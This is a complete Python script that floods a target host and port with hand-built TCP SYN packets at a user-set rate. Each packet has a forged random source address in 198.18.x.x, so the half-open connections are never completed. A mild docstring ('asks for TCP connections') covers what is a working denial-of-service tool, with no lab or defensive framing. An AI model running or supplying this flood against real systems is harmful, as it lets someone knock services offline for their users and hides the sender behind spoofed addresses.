#!/usr/bin/env python3
"""Asks for TCP connections from addresses that nobody has, and so acknowledges none: half_connect.py ADDRESS PORT PER_SECOND"""
import random
import socket
import struct
import sys
import time

address, port, rate = socket.inet_aton(sys.argv[1]), int(sys.argv[2]), float(sys.argv[3])
sender = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total > 0xFFFF:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def request():
    source = bytes([198, 18, random.randrange(256), random.randrange(1, 255)])
    words = [random.randrange(1024, 65535), port, random.getrandbits(32), 0, 5 << 4, 2, 64000]
    segment = struct.pack("!HHIIBBHHH", *words, 0, 0)
    of_segment = checksum(source + address + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(segment)) + segment)
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 0, 0, 0, 64, socket.IPPROTO_TCP, 0, source, address)
    return header + struct.pack("!HHIIBBHHH", *words, of_segment, 0)


due = time.monotonic()
while True:
    time.sleep(max(0.0, due - time.monotonic()))
    due = max(due + 4 / rate, time.monotonic() - 0.1)
    for _ in range(4):
        try:
            sender.sendto(request(), (sys.argv[1], port))
        except OSError:
            pass
